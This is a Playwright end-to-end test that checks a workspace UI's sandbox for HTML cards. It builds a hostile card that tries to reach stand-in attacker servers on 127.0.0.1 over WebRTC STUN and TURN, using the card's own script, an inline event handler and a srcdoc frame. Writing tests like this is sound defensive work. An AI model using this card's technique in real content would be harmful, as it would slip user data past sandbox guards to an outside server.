import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { randomBytes } from 'node:crypto';
import { BlobServiceClient, type BlockBlobClient } from '@azure/storage-blob';
import { expect, test } from '@playwright/test';
import { e2eEnvironment } from './environment.js';
import { FixtureFacts } from './fixture-facts.js';
import { connectToFixture, openRun, openTask } from './workspace-ui.js';

// A hostile card tries to reach the network through WebRTC: STUN and TURN over UDP, and TURN over TCP,
// at listeners on 127.0.0.1 standing in for an attacker's servers; from its own script, from an inline
// event handler, and from a srcdoc frame of its own (a fresh realm). The browser here is a stock
// Chromium without WebRTC switches, as a user's own browser would be: only the card's guard and policy
// stand in the way, and the listeners must receive nothing.

const env = e2eEnvironment();
const FLOW = 'SimpleCardFlow';
const WAIT_FOR_PACKETS_MS = 3_000;

let udp: Socket;
let tcp: Server;
const received: string[] = [];
let cardBlob: BlockBlobClient;
let task: { run: string; step: string; task: string };

/** The card: each attempt gathers ICE candidates, which sends STUN binding and TURN allocate requests. */
function hostileCard(udpPort: number, tcpPort: number): string {
  const attempt = [
    `const servers = [{ urls: 'stun:127.0.0.1:${udpPort}' }, { urls: 'turn:127.0.0.1:${udpPort}?transport=udp', username: 'card-data', credential: 'x' },`,
    ` { urls: 'turn:127.0.0.1:${tcpPort}?transport=tcp', username: 'card-data', credential: 'x' }];`,
    'const pc = new RTCPeerConnection({ iceServers: servers }); pc.createDataChannel("leak");',
    'pc.createOffer().then((offer) => pc.setLocalDescription(offer));',
  ].join('');
  const quoted = attempt.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  return `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>hostile card</title></head>
<body>
  <p id="result">running</p>
  <img src="data:," alt="" onerror="${quoted}">
  <iframe srcdoc="&lt;script&gt;${quoted}&lt;/script&gt;"></iframe>
  <script>
    let result;
    try {
      ${attempt}
      result = 'WebRTC reachable';
    } catch (err) {
      result = 'WebRTC blocked: ' + err.name;
    }
    document.getElementById('result').textContent = result;
  </script>
</body></html>`;
}

test.beforeAll(async () => {
  udp = createSocket('udp4');
  udp.on('message', (message, from) => received.push(`UDP ${message.length} bytes from ${from.address}:${from.port}`));
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  tcp = createServer((socket) => {
    received.push(`TCP connection from ${socket.remoteAddress}:${socket.remotePort}`);
    socket.destroy();
  });
  tcp.listen(0, '127.0.0.1');
  await once(tcp, 'listening');

  // The card goes to a task that has none, so no other test sees it.
  const facts = await FixtureFacts.load();
  const run = facts.runs(FLOW)[0];
  task = { run, step: 'end', task: facts.tasks(FLOW, run, 'end')[0] };
  const [container, ...root] = env.cardRoot.split('/');
  const name = `${root.join('/')}/${FLOW}/runs/${run}/steps/end/tasks/${task.task}/cards/webrtc-${randomBytes(16).toString('hex')}.html`;
  cardBlob = BlobServiceClient.fromConnectionString(env.connectionString).getContainerClient(container).getBlockBlobClient(name);
  const html = hostileCard(udp.address().port, (tcp.address() as AddressInfo).port);
  await cardBlob.upload(html, Buffer.byteLength(html), { blobHTTPHeaders: { blobContentType: 'text/html' } });
});

test.afterAll(async () => {
  await cardBlob.deleteIfExists();
  udp.close();
  tcp.close();
});

test('a card opening WebRTC connections sends nothing to their servers', async ({ page }) => {
  await page.setViewportSize({ width: 1400, height: 900 });
  await connectToFixture(page, env);
  await openRun(page, FLOW, task.run);
  await openTask(page, task.step, task.task);
  await page.getByRole('tab', { name: /^Cards/ }).click();
  const card = page.frameLocator('[data-testid="card-frame"]');
  // The card's own script runs (cards keep working), and finds no WebRTC.
  const result = card.locator('#result');
  await expect(result).not.toHaveText('running');
  await page.waitForTimeout(WAIT_FOR_PACKETS_MS);
  expect(received).toEqual([]);
  await expect(result).toHaveText('WebRTC blocked: TypeError');
});
